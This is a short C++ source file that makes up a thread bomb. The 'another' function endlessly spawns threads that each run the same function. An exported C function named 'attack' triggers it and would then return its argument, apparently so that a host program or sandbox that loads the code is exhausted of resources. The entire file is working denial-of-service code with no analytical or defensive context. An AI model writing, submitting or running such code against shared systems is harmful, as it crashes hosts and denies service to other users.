#include <pthread.h>

static void *another(void *) {
    pthread_t thread;
    for (;;)
        pthread_create(&thread, nullptr, another, nullptr);
}

extern "C" long attack(long n) {
    another(nullptr);
    return n;
}
